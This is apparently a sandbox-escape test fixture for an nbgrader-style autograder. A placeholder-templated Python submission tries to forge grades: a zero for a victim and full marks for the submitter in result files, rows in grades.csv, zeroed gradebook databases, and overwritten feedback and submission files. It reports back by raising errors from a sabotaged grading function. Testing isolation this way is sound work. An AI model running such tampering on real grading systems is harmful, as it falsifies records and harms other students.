# Forges the record: a zero in OUT/results/bob.json, full marks in its own result, a row in grades.csv, the gradebooks (OUT/nbgrader, OUT/.work's template, its worker's course reached through ../../..), bob's feedback page and submission; stopped by the box: OUT, the course and the submissions are not there (its working folder is a tmpfs over a path of OUT that leads nowhere).
# where: solution
# %%
import errno
import glob
import json
import os
import sqlite3

REPORT = {}
FORGED_ZERO = json.dumps({"student_id": "__VICTIM__", "score": 0.0, "flags": ["forged __TOKEN__"]})
FORGED_FULL = json.dumps({"student_id": "__STUDENT__", "score": 5.0, "flags": [], "forged": "__TOKEN__"})


def attempt(label, action):
    try:
        outcome = action()
        REPORT[label] = outcome if isinstance(outcome, str) else "ok"
    except Exception as exc:
        code = getattr(exc, "errno", None)
        REPORT[label] = type(exc).__name__ + (f":{errno.errorcode.get(code, code)}" if code else "")


def landed(path):
    """Where a written file went: "ok" (a folder from outside the box) or "ok:box-tmpfs" (a tmpfs made for the box)."""
    real, best, found = os.path.realpath(path), "", ("", "")
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        point = fields[4]
        if (real == point or real.startswith(point.rstrip("/") + "/")) and len(point) >= len(best):
            best, found = point, (fields[3], line.split(" - ")[1].split()[0])
    return "ok:box-tmpfs" if found in (("/", "tmpfs"), ("/newroot", "tmpfs")) else "ok"   # bwrap: root at /newroot


def write(path, text, append=False):
    flags = os.O_WRONLY | os.O_CREAT | (os.O_APPEND if append else 0)
    with os.fdopen(os.open(path, flags, 0o644), "a" if append else "w") as handle:
        handle.write(text)
    return landed(path)


def overwrite_existing(path, text):
    with open(path, "r+") as handle:
        handle.write(text)
    return landed(path)


def gradebook(path):
    db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
    db.execute("UPDATE grade SET manual_score = 0")
    db.commit()


attempt("victim result", lambda: write("__OUT__/results/__VICTIM__.json", FORGED_ZERO))
attempt("own result", lambda: write("__OUT__/results/__STUDENT__.json", FORGED_FULL))
attempt("grades.csv", lambda: write("__OUT__/grades.csv", "__STUDENT__,5,5,2,3,\n__VICTIM__,0,5,0,0,\n", True))
attempt("record gradebook", lambda: gradebook("__OUT__/nbgrader/gradebook.db"))
attempt("template gradebook", lambda: gradebook("__OUT__/.work/template.db"))
attempt("worker gradebook ../../..", lambda: gradebook(os.path.join(os.getcwd(), "../../../gradebook.db")))
for number, path in enumerate(glob.glob("__OUT__/.work/worker-*/gradebook.db")):
    attempt(f"worker gradebook {number}", lambda: gradebook(path))
attempt("victim feedback", lambda: write("__OUT__/feedback/__VICTIM__/tiny/01_linear_regression.html", "forged"))
attempt("victim submission", lambda: overwrite_existing("__SUBMISSIONS__/__VICTIM__/tiny/01_linear_regression.ipynb",
                                                         "{}"))


def mae(preds, actuals):   # wrong: the report travels back in the verification's message
    raise RuntimeError("REPORT " + json.dumps(REPORT))


print("REPORT", json.dumps(REPORT))
print("ATTACK-DONE")
